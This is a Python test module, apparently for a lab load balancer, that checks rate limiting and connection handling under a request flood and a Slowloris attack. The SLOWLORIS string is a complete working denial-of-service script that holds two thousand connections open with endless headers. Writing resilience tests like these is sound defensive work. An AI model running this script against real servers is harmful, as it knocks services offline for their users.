"""Clients that want too much, from one address of the lab; those who are served must not notice."""

import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from statistics import quantiles
from tempfile import TemporaryDirectory

from faults import flows
from inside import on
from lab import ADDRESSES, Meter, in_network, measured, play

TARGET = f"{ADDRESSES['lb1']}:443"
# Where the attacks come from: a host that is no client otherwise.
ATTACKER = "ops1"
SECONDS = 20
# Begins requests, ends none, opens anew what the edge closes; then says how many connections there were at once.
SLOWLORIS = """
import asyncio, resource, ssl, sys

async def hold(open_now):
    context = ssl._create_unverified_context()
    while True:
        try:
            reader, writer = await asyncio.open_connection("{address}", 443, ssl=context)
        except OSError:
            await asyncio.sleep(1)
            continue
        open_now.add(writer)
        try:
            writer.write(b"GET / HTTP/1.1\\r\\nHost: tradefleet.test\\r\\n")
            while not reader.at_eof():
                writer.write(b"X-Slow: 1\\r\\n")
                await writer.drain()
                await asyncio.sleep(2)
        except OSError:
            pass
        open_now.discard(writer)
        writer.close()

async def main():
    open_now, most = set(), 0
    tasks = [asyncio.create_task(hold(open_now)) for _ in range({connections})]
    for _ in range({seconds}):
        await asyncio.sleep(1)
        most = max(most, len(open_now))
    print(most)
    sys.stdout.flush()
    import os
    os._exit(0)

resource.setrlimit(resource.RLIMIT_NOFILE, [resource.getrlimit(resource.RLIMIT_NOFILE)[1]] * 2)
asyncio.run(main())
"""
CONNECTIONS = 2000


def flood(_run: Meter) -> None:
    """Send a thousand requests a second from one address; compare another's waiting with what it was before."""
    edge = ("site", "--limit", "lb1", "--tags", "nginx")
    # The role's own limit: the lab's is one that no meter reaches.
    play(*edge, nginx_rate_per_address="200")
    try:
        idle = _p99()
        with _flooding() as attack:
            busy = _p99()
            output = attack.communicate(timeout=60)[0]
    finally:
        play(*edge)
    counts = re.search(r"status codes: (\d+) 2xx, \d+ 3xx, (\d+) 4xx", output)
    assert counts, output
    served, refused = int(counts[1]), int(counts[2])
    measured(
        f"A thousand requests a second from one address: {served} served, {refused} refused with 429; "
        f"another client's p99 {busy:.1f} ms, {idle:.1f} ms before"
    )
    assert refused > served
    assert busy <= 2 * idle


@contextmanager
def _flooding() -> Iterator["subprocess.Popen[str]"]:
    argv = [
        *in_network(ATTACKER),
        "h2load",
        "--h1",
        "--clients=20",
        "--rps=50",
        f"--duration={SECONDS + 5}",
    ]
    with subprocess.Popen(
        [*argv, f"--connect-to={TARGET}", "https://tradefleet.test/v1/instruments"], stdout=subprocess.PIPE, text=True
    ) as process:
        try:
            yield process
        finally:
            process.kill()


def _p99() -> float:
    """Return the 99th percentile, in milliseconds, of a well-behaved client's reads."""
    with TemporaryDirectory() as folder:
        log = Path(folder) / "log"
        argv = ["h2load", "--h1", "--clients=4", "--rps=10", f"--duration={SECONDS}", f"--log-file={log}"]
        subprocess.run(
            [*argv, f"--connect-to={TARGET}", "https://tradefleet.test/version"], check=True, capture_output=True
        )
        answers = [[int(field) for field in line.split()] for line in log.read_text().splitlines()]
    assert {status for _, status, _ in answers} == {200}
    return quantiles([took for _, _, took in answers], n=100)[98] / 1000


def slowloris(run: Meter) -> None:
    """Hold two thousand connections open whose requests never end; the meter's clients are served as ever."""
    script = SLOWLORIS.format(address=ADDRESSES["lb1"], connections=CONNECTIONS, seconds=2 * SECONDS)
    most = int(on(ATTACKER, f"python3 - <<'END'\n{script}END\n"))
    measured(f"Slowloris: {most} connections at once, their requests never ending")
    assert most >= 0.95 * CONNECTIONS
    flows(run)
